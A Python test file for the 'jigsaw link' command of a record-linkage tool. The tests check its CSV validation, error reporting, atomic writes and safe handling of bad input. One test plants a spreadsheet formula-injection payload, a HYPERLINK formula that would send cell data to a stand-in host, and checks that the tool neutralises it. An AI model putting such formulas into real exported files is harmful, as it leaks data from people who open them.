"""``jigsaw link`` end to end on a CSV file."""

import pandas as pd
import pytest

from jigsaw.cli import main

from .conftest import records


def test_link_command_writes_clusters_review_and_problems(tmp_path, capsys, world):
    source = tmp_path / "records.csv"
    frame = world.records.head(1500).copy()
    frame.loc[3, "dob"] = "31/02/2011"
    frame.to_csv(source, index=False)
    out, review, problems = (
        tmp_path / "clusters.csv",
        tmp_path / "review.csv",
        tmp_path / "problems.csv",
    )
    code = main(
        [
            "link",
            str(source),
            "--out",
            str(out),
            "--review",
            str(review),
            "--problems",
            str(problems),
        ]
    )
    assert code == 0
    clusters = pd.read_csv(out)
    assert list(clusters.columns) == ["record_id", "child_id", "confidence"]
    assert len(clusters) == 1500
    assert clusters["confidence"].between(0, 1).all()
    assert list(pd.read_csv(review).columns)[:2] == ["record_id_l", "record_id_r"]
    bad = pd.read_csv(problems)
    assert ((bad["row"] == 5) & (bad["field"] == "dob")).any()
    err = capsys.readouterr().err
    assert "scoring blocked pairs" in err and "row 5" in err
    assert not list(tmp_path.glob("*.partial"))


def test_link_command_refuses_a_file_without_the_columns(tmp_path, capsys):
    source = tmp_path / "bad.csv"
    records([{"record_id": "1", "first_name": "Amy"}]).drop(columns=["dob"]).to_csv(
        source, index=False
    )
    code = main(["link", str(source), "--out", str(tmp_path / "c.csv")])
    assert code == 2
    assert "bad.csv: missing column(s) dob" in capsys.readouterr().err
    assert not (tmp_path / "c.csv").exists()


HEADER = "record_id,agency,first_name,last_name,dob,sex,postcode,nhs_number\n"


def test_link_command_refuses_unreadable_input_in_one_line_naming_the_file(tmp_path, capsys):
    (tmp_path / "empty.csv").write_bytes(b"")
    (tmp_path / "latin1.csv").write_bytes(
        (HEADER + "1,police,Zo\xeb,Smith,,,,\n").encode("latin-1")
    )
    (tmp_path / "folder.csv").mkdir()
    expected = {
        "empty.csv": "not a readable CSV file: it is empty",
        "latin1.csv": "not a readable CSV file: row 2 is not UTF-8 text (invalid continuation byte at byte",
        "folder.csv": "is a folder, not a CSV file",
    }
    for name, message in expected.items():
        code = main(["link", str(tmp_path / name), "--out", str(tmp_path / "c.csv"), "--quiet"])
        err = capsys.readouterr().err
        assert code == 2
        assert err.startswith(f"jigsaw link: error: {tmp_path / name}: {message}")
        assert err.count("\n") == 1
    assert not (tmp_path / "c.csv").exists()


def test_link_command_checks_output_folders_before_writing_anything(tmp_path, capsys):
    source = tmp_path / "records.csv"
    source.write_text(HEADER + "1,police,Amy,Smith,2012-06-14,F,LS6 1AN,\n", encoding="utf-8")
    out, review = tmp_path / "c.csv", tmp_path / "missing" / "review.csv"
    code = main(["link", str(source), "--out", str(out), "--review", str(review), "--quiet"])
    assert code == 2
    assert capsys.readouterr().err == (
        f"jigsaw link: error: --review {review}: folder {review.parent} does not exist\n"
    )
    assert not out.exists()


def test_link_command_with_no_usable_rows_writes_empty_outputs(tmp_path, capsys):
    """A file of headers only, or whose every row is left out, gave an IndexError traceback."""
    for name, body in (
        ("headers.csv", ""),
        ("blank_ids.csv", ",police,Amy,Smith,2012-06-14,F,LS6 1AN,\n"),
    ):
        source, out, review = tmp_path / name, tmp_path / f"out_{name}", tmp_path / f"review_{name}"
        source.write_text(HEADER + body, encoding="utf-8")
        code = main(["link", str(source), "--out", str(out), "--review", str(review), "--quiet"])
        assert code == 0
        assert out.read_text(encoding="utf-8") == "record_id,child_id,confidence\n"
        assert pd.read_csv(review).empty
    assert (
        "row 2 (record None), record_id '': blank record id: row left out"
        in capsys.readouterr().err
    )


def test_link_command_names_the_row_of_a_ragged_line(tmp_path, capsys):
    source = tmp_path / "ragged.csv"
    source.write_text(
        HEADER + "1,police,Amy,Smith,2012-06-14,F,LS6 1AN,\n2,police,Zoe,Khan,,,,,oops\n"
    )
    code = main(["link", str(source), "--out", str(tmp_path / "c.csv"), "--quiet"])
    assert code == 2
    assert (
        f"{source}: not a readable CSV file: row 3 has 9 fields, the header has 8"
        in capsys.readouterr().err
    )


def test_outputs_make_spreadsheet_formulas_inert_and_keep_numbers(tmp_path, capsys, world):
    """An agency's value "=HYPERLINK(...)" must reach a spreadsheet as text, not as a link to run."""
    source = tmp_path / "records.csv"
    frame = world.records.head(300).copy()
    attack = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    frame.loc[0, "record_id"] = attack
    frame.loc[1, "dob"] = "@SUM(1+1)"
    frame.to_csv(source, index=False)
    out, review, problems = tmp_path / "c.csv", tmp_path / "r.csv", tmp_path / "p.csv"
    assert (
        main(
            [
                "link",
                str(source),
                "--out",
                str(out),
                "--review",
                str(review),
                "--problems",
                str(problems),
                "--quiet",
            ]
        )
        == 0
    )
    clusters = pd.read_csv(out)
    assert "'" + attack in set(clusters["record_id"])
    assert not clusters["record_id"].str.match(r"[=+\-@]").any()
    bad = pd.read_csv(problems)
    assert bad.loc[bad["field"] == "dob", "value"].tolist() == ["'@SUM(1+1)"]
    # Numbers stay numbers: weights below zero are written as -1.5, not '-1.5.
    assert pd.api.types.is_float_dtype(clusters["confidence"])
    pairs = pd.read_csv(review)
    if len(pairs):
        assert pd.api.types.is_float_dtype(pairs["match_weight"])


def test_neutralise_formulas_leaves_numbers_and_plain_text():
    from jigsaw.datasets.csvfile import neutralise_formulas

    frame = pd.DataFrame(
        {
            "name": ["=1+1", "+44 113", "-1.5", "-", "Amy", "@me", None],
            "weight": [-1.5, 0.0, 2.0, -3.0, 1.0, 4.0, 5.0],
        }
    )
    out = neutralise_formulas(frame)
    assert out["name"].tolist() == ["'=1+1", "'+44 113", "-1.5", "'-", "Amy", "'@me", None]
    assert out["weight"].tolist() == [-1.5, 0.0, 2.0, -3.0, 1.0, 4.0, 5.0]
    assert frame["name"][0] == "=1+1"  # the caller's frame is not changed


def test_the_csv_reader_options_and_header_checks(tmp_path):
    from jigsaw.datasets.csvfile import read_text_csv

    path = tmp_path / "areas.csv"
    path.write_bytes("\ufeffcode, name ,children\nE1, Leeds,\n".encode())
    plain = read_text_csv(path)
    assert list(plain.columns) == ["code", "name", "children"]  # BOM dropped, names trimmed
    assert plain.iloc[0].tolist() == ["E1", " Leeds", ""]
    spaced = read_text_csv(path, skipinitialspace=True, blanks_as_missing=True)
    assert spaced.iloc[0, 1] == "Leeds" and pd.isna(spaced.iloc[0, 2])
    path.write_text("code,name,code\nE1,Leeds,E2\n")
    with pytest.raises(ValueError, match=r"areas.csv: row 1: column code appears more than once"):
        read_text_csv(path)
    with pytest.raises(FileNotFoundError, match=r"nope.csv: no such file"):
        read_text_csv(tmp_path / "nope.csv")


def test_atomic_write_leaves_the_old_file_when_writing_fails(tmp_path):
    from jigsaw.datasets.csvfile import atomic_path, write_atomic

    path = tmp_path / "out.csv"
    write_atomic(path, "old\n")
    with pytest.raises(RuntimeError), atomic_path(path) as temporary:
        temporary.write_text("half")
        raise RuntimeError("disk full")
    assert path.read_text() == "old\n"
    assert list(tmp_path.iterdir()) == [path]


def test_a_one_megabyte_name_is_reported_and_not_used_and_the_run_finishes(tmp_path, world):
    """A 1 MB name once held ``jigsaw link`` for over 300 s: a value longer than the schema's
    bound is a problem naming the file, row and field, and the row is linked as if the value were
    blank, as any other unusable value is."""
    import subprocess
    import sys

    from jigsaw.linkage import MAX_VALUE_LENGTH

    frame = world.records.head(300).copy()
    long_name = "Aisha" + "x" * 1_000_000
    frame.loc[2, "first_name"] = long_name
    source, blanked = tmp_path / "long.csv", tmp_path / "blanked.csv"
    frame.to_csv(source, index=False)
    frame.loc[2, "first_name"] = ""
    frame.to_csv(blanked, index=False)
    out, problems = tmp_path / "c.csv", tmp_path / "p.csv"
    done = subprocess.run(
        [sys.executable, "-m", "jigsaw.cli", "link", str(source), "--out", str(out)]
        + ["--problems", str(problems), "--quiet"],
        capture_output=True,
        text=True,
        timeout=240,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    record_id = frame.loc[2, "record_id"]
    shown = long_name[:MAX_VALUE_LENGTH] + "..."
    assert (
        f"{source}: row 4 (record {record_id}), first_name {shown!r}: "
        f"longer than {MAX_VALUE_LENGTH} characters (1,000,005): value not used"
    ) in done.stderr
    bad = pd.read_csv(problems, keep_default_na=False)
    row = bad[bad["row"] == 4]
    assert row[["record_id", "field", "value"]].values.tolist() == [
        [record_id, "first_name", shown]
    ]
    assert bad["value"].str.len().max() <= MAX_VALUE_LENGTH + 3
    assert main(["link", str(blanked), "--out", str(tmp_path / "b.csv"), "--quiet"]) == 0
    assert pd.read_csv(out).equals(pd.read_csv(tmp_path / "b.csv"))
